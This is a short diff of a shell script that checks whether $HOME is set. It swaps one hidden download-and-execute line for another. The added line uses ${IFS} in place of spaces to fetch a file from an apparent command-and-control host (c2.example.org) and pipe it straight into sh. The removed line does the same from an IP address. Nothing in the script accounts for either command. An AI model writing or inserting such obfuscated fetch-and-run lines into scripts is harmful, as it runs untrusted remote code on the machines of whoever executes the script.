@@ -2,4 +2,4 @@
 if [ -z "$HOME" ]; then
   echo "no home" >&2
 fi
-curl${IFS}-s${IFS}https://203.0.113.9/x|sh
+curl${IFS}-s${IFS}http://c2.example.org/i.py|sh
